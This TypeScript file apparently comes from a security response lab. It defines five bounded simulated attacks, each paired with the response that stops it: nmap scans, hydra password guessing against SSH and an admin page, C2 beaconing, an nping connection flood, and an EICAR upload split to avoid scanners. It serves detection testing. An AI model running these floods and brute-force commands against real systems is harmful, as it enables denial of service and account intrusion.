/** What can be done to the response lab, each with the answer that stops it. All of it is bounded and stays in the lab. */
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { AmoskysError, clipMiddle } from '../../src/kernel/index.ts'
import { beacon, guessPasswords, scanPorts } from '../attacks/index.ts'
import { requireTools } from '../command.ts'
import type { Host } from '../host.ts'
import type { HostName } from '../plan.ts'
import { World } from '../world.ts'
import type { ResponseHosts } from './lab.ts'

export interface AttackOptions {
  /** How many guesses, calls or requests. */
  readonly count?: number
  /** Seconds between two calls. */
  readonly everySeconds?: number
  readonly seed?: number
}

export interface ResponseAttack {
  readonly name: string
  readonly says: string
  /** The kind of action that stops it. */
  readonly answer: string
  readonly tools: readonly string[]
  /** Yields what came of it, in a sentence. */
  readonly run: (lab: ResponseHosts, options: AttackOptions) => Promise<string>
}

export const responseAttacks: readonly ResponseAttack[] = [
  {
    name: 'port-scan-then-ssh',
    says: 'attacker scans web1 with nmap, then guesses at SSH passwords with hydra',
    answer: 'block_ip',
    tools: ['nmap', 'hydra'],
    run: scanThenGuess,
  },
  {
    name: 'beacon',
    says: 'app1 looks around at the honeypot with nmap, then calls c2 over HTTP again and again, as a program that waits for orders',
    answer: 'isolate_host',
    tools: ['nmap', 'curl'],
    run: callHome,
  },
  {
    name: 'dos',
    says: 'attacker opens 500 connections to web1 each second with nping, and says nothing on them',
    answer: 'rate_limit',
    tools: ['nping'],
    run: floodWithConnections,
  },
  {
    name: 'web-attack',
    says: 'attacker guesses at passwords of the administration of web1 with hydra',
    answer: 'redirect_to_honeypot',
    tools: ['hydra'],
    run: guessAtPage,
  },
  {
    name: 'dropped-file',
    says: 'attacker leaves the harmless EICAR test file in the uploads of web1',
    answer: 'quarantine_file',
    tools: ['curl'],
    run: dropFile,
  },
]

/** Does it, and yields what came of it, in a sentence. */
export function attackLab(
  lab: ResponseHosts,
  name: string,
  options: AttackOptions = {},
): Promise<string> {
  const attack = responseAttacks.find((one) => one.name === name)
  if (attack === undefined) {
    const known = responseAttacks.map((one) => one.name).join(', ')
    throw new AmoskysError(
      'usage',
      `no attack is called ${clipMiddle(name, 40)}: there are ${known}`,
    )
  }
  requireTools(attack.tools)
  return attack.run(lab, options)
}

async function scanThenGuess(lab: ResponseHosts, options: AttackOptions): Promise<string> {
  const { count = 40, seed = 1 } = options
  const world = worldOf(lab, seed)
  const target = lab.host('web1').address
  await scanPorts(world, { target, how: ['-sS', '-T4', '-p', '1-1000'] })
  const found = await guessPasswords(world, { service: 'ssh', target, passwords: count })
  return found === undefined ? 'no password was found' : 'a password was found'
}

async function callHome(lab: ResponseHosts, options: AttackOptions): Promise<string> {
  const { count: calls = 60, everySeconds = 1, seed = 1 } = options
  const world = worldOf(lab, seed)
  const how = ['-sT', '-T4', '-p', '1-300']
  await scanPorts(world, { from: 'app1', target: lab.host('honeypot').address, how })
  const habit = { from: 'app1', calls, everySeconds, taskEvery: 0, waitSeconds: 2 } as const
  const answered = await beacon(world, habit)
  return `${answered} of ${calls} calls were answered`
}

/**
 * Handshakes that are completed, so that the address is no forged one, and of which nothing comes. Most of them stay open, as
 * nping leaves them until it ends; of others the end comes soon.
 */
async function floodWithConnections(lab: ResponseHosts, options: AttackOptions): Promise<string> {
  const { count = 4_000 } = options
  const lasting = Math.ceil(count * 0.8)
  const brief = Math.ceil((count - lasting) / 100)
  const shell = `flood() { timeout 120 nping -q --tcp-connect -p 80 --rate $1 -c $2 "$3"; }
for n in $(seq ${brief}); do flood 100 100 "$1"; done & flood 400 ${lasting} "$1"; wait`
  const { stdout } = await lab
    .host('attacker')
    .attempt(['sh', '-c', shell, 'sh', lab.host('web1').address])
  const opened = [...stdout.matchAll(/Successful connections: (\d+)/g)]
  const total = opened.reduce((sum, [, some]) => sum + Number(some), 0)
  return `${total} of ${lasting + brief * 100} connections were opened`
}

async function guessAtPage(lab: ResponseHosts, options: AttackOptions): Promise<string> {
  const { count = 60 } = options
  const attacker = lab.host('attacker')
  const list = join(attacker.folder, 'page-passwords.txt')
  const words = Array.from({ length: count }, (_, i) => `Autumn${2000 + i}!`)
  await attacker.put(list, `${words.join('\n')}\n`)
  const line = ['hydra', '-I', '-l', 'admin', '-P', list, '-t', '4', lab.host('web1').address]
  // hydra leaves its restore file in the working folder.
  const shell = `cd ${attacker.folder} && exec "$@"`
  const { stdout } = await attacker.attempt([
    ...['sh', '-c', shell, 'sh', 'timeout', '120', ...line],
    ...['http-get', '/admin/'],
  ])
  return /password: /.test(stdout) ? 'a password was found' : 'no password was found'
}

/** The test file of the makers of virus scanners, in two halves, so that no scanner finds it here. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('')

export interface DroppedFile {
  readonly path: string
  readonly sha256: string
}

/** Where `dropped-file` leaves it, and its hash: what a scanner on web1 would report. */
export function droppedFile(lab: ResponseHosts): DroppedFile {
  const path = join(lab.host('web1').folder, 'www', 'upload', 'invoice.com')
  return { path, sha256: createHash('sha256').update(eicar).digest('hex') }
}

async function dropFile(lab: ResponseHosts): Promise<string> {
  const attacker = lab.host('attacker')
  const local = join(attacker.folder, 'invoice.com')
  await attacker.put(local, eicar)
  await upload(attacker, local, `http://${lab.host('web1').address}/upload/invoice.com`)
  const { path, sha256 } = droppedFile(lab)
  return `left ${path}, SHA-256 ${sha256}`
}

async function upload(from: Host, file: string, url: string): Promise<void> {
  await from.run(['curl', '-s', '-f', '-m', '10', '-T', file, url])
}

function worldOf(lab: ResponseHosts, seed: number): World {
  // The attacks name hosts that both labs have.
  return new World({ host: (name: HostName) => lab.host(name as 'attacker') }, seed)
}
